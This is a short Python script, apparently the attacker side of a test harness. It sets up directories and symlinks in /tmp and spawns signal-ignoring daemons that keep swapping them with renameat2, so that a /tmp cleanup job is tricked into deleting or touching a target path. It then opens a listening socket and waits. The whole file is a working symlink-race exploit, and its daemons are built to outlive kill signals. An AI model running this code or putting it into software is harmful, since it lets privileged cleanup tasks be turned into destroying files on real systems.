"""Daemons that outlive a Kill, if they can, and swap folders for links while /tmp is emptied."""

import ctypes
import os
import signal
import socket
import time

from attacker import FACTS, end

AT_FDCWD, RENAME_EXCHANGE = -100, 2
MANY, LIFE_S = 60, 20.0
libc = ctypes.CDLL(None)

if not os.path.exists("/was"):
    open("/was", "wb").close()
    for number in range(MANY):
        os.mkdir(f"/tmp/{number}")
        open(f"/tmp/{number}/bait", "wb").close()
        os.symlink(FACTS["bait"], f"/tmp/{number}-link")
    for first in range(2):
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                end()
            for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(each, signal.SIG_IGN)
            tmp = os.open("/tmp", os.O_PATH)
            os.closerange(0, 3)
            until = time.monotonic() + LIFE_S
            while time.monotonic() < until:
                for number in range(first, MANY, 2):
                    names = str(number).encode(), f"{number}-link".encode()
                    libc.renameat2(tmp, names[0], tmp, names[1], RENAME_EXCHANGE)
            end()
door = socket.create_server(("", 4100))
door.accept()
time.sleep(600)
